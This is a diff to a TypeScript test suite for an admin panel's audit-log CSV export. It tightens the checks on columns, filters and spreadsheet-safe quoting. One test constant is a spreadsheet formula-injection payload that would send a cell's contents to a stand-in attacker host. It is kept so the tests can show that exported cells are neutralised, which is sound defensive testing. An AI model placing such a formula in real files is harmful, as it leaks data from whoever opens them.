@@ -2,7 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import supertest from 'supertest';
 import type TestAgent from 'supertest/lib/agent.js';
 import type { UserActor } from '../src/audit/actor.js';
-import { AUDIT_CSV_COLUMNS, csvCell, exportAuditLogs } from '../src/audit/audit-export.service.js';
+import { csvCell, exportAuditLogs } from '../src/audit/audit-export.service.js';
 import { parseAuditLogFilter } from '../src/audit/audit-log-filter.js';
 import type { Role } from '../src/auth/roles.js';
 import { createSeeder } from '../src/db/seeder.js';
@@ -17,6 +17,14 @@ import { createTestApp, type TestApp } from './support/test-app.js';
 const URL = '/admin/exports/audit-logs.csv';
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
 const AWKWARD = 'Ship partials, "as completed"\nSecond line; third, with a comma\r\nand a CRLF';
+
+/** The export's columns as a reader of the file meets them: the readable ones, then the stored ones. */
+const COLUMNS = [
+  'id', 'occurred_at', 'action', 'record_type', 'record_title', 'field', 'old_value', 'new_value', 'user', 'browser',
+  'occurred_at_utc', 'action_code', 'table_name', 'record_id', 'field_name', 'old_value_stored', 'new_value_stored',
+  'actor_kind', 'actor_id', 'actor_username', 'actor_name', 'actor_email', 'ip_address', 'user_agent',
+  'request_id', 'approval_id', 'change_id', 'details',
+];
 
 let t: TestApp;
 const agents = {} as Record<Role, TestAgent>;
@@ -65,8 +73,8 @@ function parseCsv(text: string): string[][] {
 
 function records(text: string): Array<Record<string, string>> {
   const [header, ...lines] = parseCsv(text);
-  expect(header).toEqual([...AUDIT_CSV_COLUMNS]);
-  for (const line of lines) expect(line).toHaveLength(AUDIT_CSV_COLUMNS.length);
+  expect(header).toEqual(COLUMNS);
+  expect(lines.filter((line) => line.length !== COLUMNS.length)).toEqual([]);
   return lines.map((line) => Object.fromEntries(header!.map((name, i) => [name, line[i]!])));
 }
 
@@ -124,7 +132,7 @@ afterAll(async () => {
 
 describe('the CSV holds exactly the filtered rows', () => {
   const now = () => new Date();
-  const cases: Array<{ name: string; query: () => Record<string, string>; where: () => [string, unknown[]] }> = [
+  const cases: Array<{ name: string; query: () => Record<string, string>; where: () => [string, unknown[]]; selectsNone?: true }> = [
     { name: 'no filter', query: () => ({}), where: () => ['true', []] },
     { name: 'record type', query: () => ({ 'filters.table_name': 'travelers' }), where: () => ['table_name = $1', ['travelers']] },
     {
@@ -152,14 +160,17 @@ describe('the CSV holds exactly the filtered rows', () => {
       name: 'a date range that selects nothing',
       query: () => ({ 'filters.occurred_at~~from': '2001-01-01T00:00:00.000Z', 'filters.occurred_at~~to': '2001-12-31T23:59:59.999Z' }),
       where: () => [`occurred_at BETWEEN '2001-01-01' AND '2001-12-31 23:59:59.999+00'`, []],
+      selectsNone: true,
     },
   ];
 
-  it.each(cases)('$name', async ({ query: makeQuery, where }) => {
+  it.each(cases)('$name', async ({ query: makeQuery, where, selectsNone }) => {
     const fixed = makeQuery();
     const query = () => fixed;
     const [sql, params] = where();
     const expected = await ids_(sql, params);
+    // Equal lists prove little when both are empty: only the case meant to select nothing may.
+    expect({ rows: expected.length > 0 }).toEqual({ rows: !selectsNone });
     const exportsBefore = (await exportRows()).length;
     // The panel's list, with the same filters, counts the same.
     const listed = await agents.quality.get('/admin/api/resources/audit_logs/actions/list').query({ ...query(), perPage: '1' });
@@ -182,11 +193,12 @@ describe('the CSV holds exactly the filtered rows', () => {
     expect(last).toMatchObject({ actor_id: t.users.quality.id, actor_username: 'quality.user', table_name: 'audit_logs' });
     expect(last.ip_address).toMatch(/127\.0\.0\.1/);
     expect(last.details).toMatchObject({ rowCount: expected.length, format: 'csv' });
-    const filters = last.details.filters as Record<string, unknown>;
-    for (const [key, value] of Object.entries(query())) {
+    // Every filter given, and none other (none at all for the unfiltered export).
+    const given = Object.entries(query()).map(([key, value]) => {
       const name = key.replace('filters.', '').replace('occurred_at~~', 'occurred_');
-      expect(filters[name]).toEqual(name === 'actor_id' ? Number(value) : name.startsWith('occurred_') ? new Date(value).toISOString() : value);
-    }
+      return [name, name === 'actor_id' ? Number(value) : name.startsWith('occurred_') ? new Date(value).toISOString() : value];
+    });
+    expect(last.details.filters).toEqual(Object.fromEntries(given));
   });
 
   it('the export row itself is in the next export, not in its own', async () => {
@@ -223,6 +235,7 @@ describe('cells are safe in a spreadsheet and survive quoting', () => {
     expect(contact?.old_value).toBe('Karen Liu');
     const phone = rows.find((r) => r.table_name === 'customers' && r.field_name === 'phone');
     expect(phone?.new_value).toBe("'+1 316 555 0199");
+    expect(rows.length).toBeGreaterThan(0);
     for (const row of rows) for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@]/);
   });
 
